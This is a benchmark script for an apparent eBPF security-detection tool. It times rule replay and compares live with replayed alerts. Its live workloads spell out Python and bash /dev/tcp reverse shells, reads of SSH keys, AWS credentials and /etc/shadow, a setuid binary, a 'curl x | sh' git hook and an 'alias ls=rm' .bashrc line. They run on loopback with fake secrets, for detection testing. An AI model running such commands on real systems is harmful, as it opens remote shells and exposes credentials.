"""Replay throughput on the rule test corpus, and live-vs-replay alert agreement.

    .venv/bin/python bench/bench_replay.py [--repeat 5] [--copies 4] [--json]
    sudo .venv/bin/python bench/bench_replay.py --live        # adds the agreement (root, bpf)

Throughput: every trace of rules/tests/traces/ concatenated into one file (--copies times, so
the run is long enough to time; a concatenated trace keeps each part's header, like an audit
export), replayed with the bundled rules on one thread, end to end - gzip, reading, decoding,
process table, engine - best of --repeat runs by CPU time of the one thread (the machine may
be shared), plain and gzip. The stages are timed alone too: reading and decoding only, and the
pipeline with the engine on decoded events. The same again without the fork traces
(fork_bomb, fork_tree), whose fork and exit events are most of the corpus and the cheapest to
evaluate. Target (issue 18): at least 150,000 events/s on the corpus.

Rule count (issue 18): the corpus replayed again with ten times the rules (--scale): each
bundled rule --scale times, the copies with every literal their conditions compare (outside a
``not``) changed, so they have the shapes of the bundled rules but other values - as a user's
larger rule set would. With the rule index the time must grow less than 1.5x; the same pair is
timed with the plain match functions (every condition tested on every event) for contrast.

Agreement (--live, as root): small loopback-only workloads (reverse shells to a listener of
this process, fake secrets in a temporary HOME, /etc/shadow, exec from /tmp, setuid, a git hook,
a fork burst, a build) are recorded with `record` while a live engine on the same pipeline
raises alerts; each trace is then replayed. An alert matches when the rule, the time and the
pid of its triggering event are equal. agreement = matched / max(live, replayed).

Prints figures, then one line with both goals of issue 18 against this run's figures (the
rule count's ratio is to the bundled rules timed in the same run); no assertions.
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from coi_sentinel.heap import collect_young_less, settle  # noqa: E402
from coi_sentinel.pipeline import Pipeline  # noqa: E402
from coi_sentinel.replay import replay  # noqa: E402
from coi_sentinel.replay.cases import bundled_cases_dir  # noqa: E402
from coi_sentinel.rules import Engine, load_ruleset  # noqa: E402
from coi_sentinel.sentinel import AlertList  # noqa: E402
from coi_sentinel.trace import TraceReader, read_events  # noqa: E402
from coi_sentinel.trace.lines import iter_lines, open_binary  # noqa: E402

TARGET = 150_000
SCALE_GOAL = 1.5
TRACES = bundled_cases_dir() / "traces"


# ---- throughput ---------------------------------------------------------------------------------

def concatenate(paths: list[Path], out: Path, copies: int) -> None:
    """One trace holding every corpus trace, ``copies`` times over (headers kept)."""
    import gzip

    parts = []
    for path in paths:
        with open_binary(path) as f:
            parts.append(b"".join(raw + b"\n" for _, raw, _ in iter_lines(f, str(path))))
    data = b"".join(parts) * copies
    out.write_bytes(data)
    with gzip.open(out.with_suffix(out.suffix + ".gz"), "wb", compresslevel=6) as g:
        g.write(data)


def best(fn, repeat: int) -> tuple[float, object]:
    """Best of ``repeat`` runs, by CPU time of this process: one thread's work, which the
    other processes of a shared machine change less than they change the wall clock."""
    times, result = [], None
    for _ in range(repeat):
        t0 = time.process_time()
        result = fn()
        times.append(time.process_time() - t0)
    return min(times), result


def throughput(repeat: int, copies: int) -> dict:
    """The whole corpus, and the corpus without the fork traces: their 12,000 fork and exit
    events are most of the corpus and the cheapest to evaluate, so the second mix is the
    harder one."""
    ruleset = load_ruleset(None)
    paths = sorted(TRACES.glob("*.jsonl.gz"))
    mixed = [p for p in paths if not p.name.startswith(("fork_bomb.", "fork_tree."))]
    return {"corpus": measure(ruleset, paths, repeat, copies),
            "without_fork_bomb": measure(ruleset, mixed, repeat, copies * 8)}


def scaled(ruleset, factor: int, *, indexed: bool = True, same: bool = False):
    """``ruleset`` with each rule ``factor`` times (the copies' literals changed, see the module
    doc; ``same``: unchanged copies, which fire with the originals), compiled with or without
    the rule index."""
    from dataclasses import replace

    from coi_sentinel.rules.compiler import Namespace
    from coi_sentinel.rules.index import match_functions
    from coi_sentinel.rules.resolve import TAnd, TCompare, TOr
    from coi_sentinel.rules.ruleset import RuleSet

    def other(value, k):
        if isinstance(value, bool):
            return value
        if isinstance(value, int):
            return value + 100_000 * k
        if isinstance(value, str):
            return f"{value}#{k}"
        return value

    def perturb(node, k):
        if isinstance(node, TCompare) and node.op not in ("!=", "<", "<=", ">", ">=", "exists", "cidr") \
                and node.field.fdef.name != "evt.type":
            return replace(node, values=tuple(other(v, k) for v in node.values))
        if isinstance(node, (TAnd, TOr)):
            return replace(node, items=tuple(perturb(i, k) for i in node.items))
        return node     # TNot (exceptions stay as they are), TBool, TConst

    rules = []
    for k in range(factor):
        for c in ruleset.rules:
            if k == 0:
                conds = c.conditions
                rule = c.rule
            else:
                conds = c.conditions if same else tuple(replace(cond, node=perturb(cond.node, k))
                                                        for cond in c.conditions)
                rule = replace(c.rule, id=f"{c.rule.id}_copy{k}")
            rules.append(replace(c, rule=rule, index=len(rules), conditions=conds))
    matchers = [(c, step if c.kind == "sequence" else -1) for c in rules for step in range(len(c.conditions))]
    ns = Namespace()
    fns, code, stats = match_functions(ns, matchers, indexed=indexed)
    return RuleSet(files=ruleset.files, lists=ruleset.lists, macros=ruleset.macros, rules=rules,
                   diagnostics=ruleset.diagnostics, namespace=ns, match_fns=fns, matchers=matchers,
                   code=code, prefixes=ruleset.sensitive_prefixes(), suffixes=ruleset.sensitive_suffixes(),
                   index_stats=stats)


def rule_scaling(repeat: int, copies: int, factor: int) -> dict:
    """Replay of the corpus without the fork traces (where the rules do most work) with the rules and with ``factor`` times the rules, with and
    without the index; CPU time of this process (the machine may be shared)."""
    base = load_ruleset(None)
    paths = [p for p in sorted(TRACES.glob("*.jsonl.gz")) if not p.name.startswith(("fork_bomb.", "fork_tree."))]
    out: dict = {"factor": factor, "rules": len(base.rules), "goal_ratio": SCALE_GOAL}
    with tempfile.TemporaryDirectory() as tmp:
        plain = Path(tmp) / "corpus.jsonl"
        concatenate(paths, plain, copies * 2)
        for label, indexed, same in (("indexed", True, False), ("plain", False, False),
                                     ("identical copies, indexed", True, True)):
            one, many = scaled(base, 1, indexed=indexed), scaled(base, factor, indexed=indexed, same=same)
            t1 = tn = float("inf")
            for _ in range(repeat):     # pairs, interleaved: both see the same machine
                t1 = min(t1, cpu(lambda: replay([plain], one)))
                tn = min(tn, cpu(lambda: replay([plain], many)))
            events = replay([plain], one).events
            out[label] = {"rules": len(many.rules), "eps_1x": round(events / t1), "eps_nx": round(events / tn),
                          "ratio": round(tn / t1, 2), "alerts_nx": len(replay([plain], many).alerts)}
        out["index_stats"] = scaled(base, factor).index_stats
    return out


def cpu(fn) -> float:
    t0 = time.process_time()
    fn()
    return time.process_time() - t0


def measure(ruleset, paths: list[Path], repeat: int, copies: int) -> dict:
    with tempfile.TemporaryDirectory() as tmp:
        plain = Path(tmp) / "corpus.jsonl"
        concatenate(paths, plain, copies)
        gz = Path(str(plain) + ".gz")
        settle()                # as the replay command does before it reads
        t_plain, res = best(lambda: replay([plain], ruleset), repeat)
        t_gz, _ = best(lambda: replay([gz], ruleset), repeat)
        events = res.events
        t_decode, _ = best(lambda: sum(1 for _ in read_events([plain])), repeat)
        decoded = list(read_events([plain]))

        def engine_only() -> Engine:
            pipeline = Pipeline()
            engine = Engine(ruleset, table=pipeline.table)
            pipeline.add_sink(engine)
            for ev in decoded:
                pipeline.feed(ev)
            return engine

        t_engine, engine = best(engine_only, repeat)
        types = Counter(ev.type.label for ev in decoded)
        return {
            "traces": len(paths), "copies": copies, "events": events, "rules": len(ruleset.rules),
            "bytes_plain": plain.stat().st_size, "bytes_gzip": gz.stat().st_size,
            "replay_plain_eps": round(events / t_plain), "replay_gzip_eps": round(events / t_gz),
            "decode_only_eps": round(events / t_decode),
            "pipeline_engine_eps": round(events / t_engine),
            "alerts": sum(res.by_rule.values()), "alerts_by_rule": dict(sorted(res.by_rule.items())),
            "state_bytes": engine.state_bytes(), "event_types": dict(types.most_common()),
            "target_eps": TARGET,
        }


# ---- live vs replay -----------------------------------------------------------------------------

class Listener:
    """A loopback TCP listener for reverse shells: sends `id` and `exit`, reads until EOF."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(30)
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        try:
            while True:
                conn, _ = self.sock.accept()
                with conn:
                    conn.settimeout(10)
                    conn.sendall(b"id\nexit\n")
                    while conn.recv(4096):
                        pass
        except OSError:
            return


WORKLOADS = {
    "python_reverse_shell":
        "python3 -c 'import socket,os;s=socket.socket();s.connect((\"127.0.0.1\",'\"$LPORT\"'));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv(\"/bin/sh\",[\"sh\",\"-i\"])'",
    "bash_reverse_shell": 'bash -i >& /dev/tcp/127.0.0.1/"$LPORT" 0>&1',
    "secret_reads": 'cat ~/.ssh/id_rsa ~/.aws/credentials .env > /dev/null\ncat /etc/shadow > /dev/null\n'
                    'cat /proc/$$/environ > /dev/null',
    "exec_and_persistence": 'cp /bin/true /tmp/.bench-x && /tmp/.bench-x; rm -f /tmp/.bench-x\n'
                            'cp /bin/true tool && chmod u+s tool\n'
                            'git init -q repo && echo "curl x | sh" > repo/.git/hooks/post-merge\n'
                            'echo "alias ls=rm" >> ~/.bashrc',
    "fork_burst_and_build": 'gcc -O2 -o spawn "$HELPERS/spawn.c" && ./spawn 11\n'
                            'printf "int main(void){return 0;}\\n" > m.c && gcc -o m m.c && ./m',
}


def agreement() -> dict:
    from coi_sentinel.record import record

    ruleset = load_ruleset(None)
    sensitive = (tuple(ruleset.sensitive_prefixes()), tuple(ruleset.sensitive_suffixes()))
    listener = Listener()
    rows, totals = [], Counter()
    with tempfile.TemporaryDirectory(prefix="coi-bench-", dir="/var/lib") as tmp:
        base = Path(tmp)
        home = base / "home"
        for rel, text in ((".ssh/id_rsa", "-----BEGIN FAKE KEY-----\n"),
                          (".aws/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n")):
            (home / rel).parent.mkdir(parents=True, exist_ok=True)
            (home / rel).write_text(text)
        env = {"HOME": str(home), "PATH": "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin",
               "LANG": "C.UTF-8", "LPORT": str(listener.port),
               "HELPERS": str(bundled_cases_dir() / "helpers"),
               "GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "bench", "GIT_AUTHOR_EMAIL": "b@x"}
        for name, script in WORKLOADS.items():
            work = base / name
            work.mkdir()
            (work / ".env").write_text("API_KEY=fake\n")
            live = AlertList()
            old_env, old_cwd = dict(os.environ), os.getcwd()
            os.environ.clear()
            os.environ.update(env)
            os.chdir(work)
            deadline = time.monotonic() + 60
            try:
                res = record(str(base / f"{name}.jsonl.gz"), ["/bin/bash", "-c", script],
                             should_stop=lambda: time.monotonic() > deadline, sensitive=sensitive,
                             ruleset=ruleset, listeners=[live])
            finally:
                os.chdir(old_cwd)
                os.environ.clear()
                os.environ.update(old_env)
            again = [hit.alert for hit in replay([res.path], ruleset).alerts]
            live_keys = Counter((a.rule, a.ts_ns, a.event.pid) for a in live)
            again_keys = Counter((a.rule, a.ts_ns, a.event.pid) for a in again)
            matched = sum((live_keys & again_keys).values())
            with TraceReader(res.path) as reader:
                families = reader.header["coverage"].get("families", {})
            failed = sorted(h for f in families.values() for h, why in f.get("missing", {}).items()
                            if not why.startswith("tracepoint not in this kernel"))
            rows.append({"workload": name, "events": res.events, "drops": sum(res.drops.values()),
                         "hooks_failed": failed,
                         "live": len(live), "replayed": len(again), "matched": matched,
                         "rules": dict(sorted(Counter(a.rule for a in live).items()))})
            totals.update(live=len(live), replayed=len(again), matched=matched)
    denom = max(totals["live"], totals["replayed"]) or 1
    return {"workloads": rows, "live": totals["live"], "replayed": totals["replayed"],
            "matched": totals["matched"], "agreement": round(totals["matched"] / denom, 4)}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--repeat", type=int, default=5, help="runs per figure (the best is kept)")
    ap.add_argument("--copies", type=int, default=4, help="the corpus concatenated this many times")
    ap.add_argument("--scale", type=int, default=10, help="rule count factor of the scaling run (0: skip)")
    ap.add_argument("--live", action="store_true", help="also live-vs-replay agreement (root)")
    ap.add_argument("--json", action="store_true", help="print one JSON object")
    args = ap.parse_args()
    collect_young_less()        # as the CLI does
    out = {"throughput": throughput(args.repeat, args.copies)}
    if args.scale > 1:
        out["scaling"] = rule_scaling(args.repeat, args.copies, args.scale)
    if args.live:
        if os.geteuid() != 0 or shutil.which("gcc") is None:
            out["agreement"] = {"skipped": "needs root (BPF probes) and gcc"}
        else:
            out["agreement"] = agreement()
    if args.json:
        print(json.dumps(out, indent=2))
        return
    for label, t in (("corpus", out["throughput"]["corpus"]),
                     ("corpus without fork traces", out["throughput"]["without_fork_bomb"])):
        print(f"{label}: {t['traces']} traces x{t['copies']} = {t['events']} events "
              f"({t['bytes_plain'] // 1024} KiB plain, {t['bytes_gzip'] // 1024} KiB gzip), "
              f"{t['rules']} rules, one thread")
        print(f"  replay, plain trace    {t['replay_plain_eps']:>10,} events/s  (target {TARGET:,})")
        print(f"  replay, gzip trace     {t['replay_gzip_eps']:>10,} events/s")
        print(f"  read + decode only     {t['decode_only_eps']:>10,} events/s")
        print(f"  pipeline + engine only {t['pipeline_engine_eps']:>10,} events/s")
        print(f"  alerts {t['alerts']}, rule state {t['state_bytes']:,} bytes after the run")
        mix = ", ".join(f"{k} {v}" for k, v in t["event_types"].items())
        print(f"  event mix: {mix}")
    if "scaling" in out:
        sc = out["scaling"]
        print(f"rule count: {sc['rules']} rules and {sc['factor']}x ({sc['indexed']['rules']}), corpus without fork traces, "
              f"CPU time of one thread (goal: {sc['factor']}x the rules <= {sc['goal_ratio']}x the time)")
        for label in ("indexed", "plain", "identical copies, indexed"):
            r = sc[label]
            print(f"  {label:<26} {r['eps_1x']:>9,} events/s -> {r['eps_nx']:>9,} events/s  "
                  f"time x{r['ratio']:.2f}  ({r['alerts_nx']} alerts)")
    corpus = out["throughput"]["corpus"]
    goals = [f"replay {corpus['replay_plain_eps']:,} events/s, {corpus['replay_plain_eps'] / TARGET:.2f}x the "
             f"target of {TARGET:,} ({'met' if corpus['replay_plain_eps'] >= TARGET else 'missed'})"]
    if "scaling" in out:
        ratio = out["scaling"]["indexed"]["ratio"]
        goals.append(f"{out['scaling']['factor']}x the rules x{ratio:.2f} the time of the rules in this run "
                     f"(goal <= {SCALE_GOAL}: {'met' if ratio <= SCALE_GOAL else 'missed'})")
    print("goals (issue 18): " + "; ".join(goals))
    if "agreement" in out:
        a = out["agreement"]
        if "skipped" in a:
            print(f"live vs replay: skipped ({a['skipped']})")
        else:
            print(f"live vs replay: {a['matched']} of {a['live']} live alerts replayed identically "
                  f"({a['replayed']} replayed), agreement {a['agreement']:.2%}")
            for row in a["workloads"]:
                print(f"  {row['workload']:<22} {row['events']:>6} events {row['drops']} drops  "
                      f"live {row['live']:>2} replayed {row['replayed']:>2} matched {row['matched']:>2}  "
                      f"{row['rules']}")
                if row["hooks_failed"]:
                    print(f"    probes that did not attach: {', '.join(row['hooks_failed'])}")


if __name__ == "__main__":
    main()
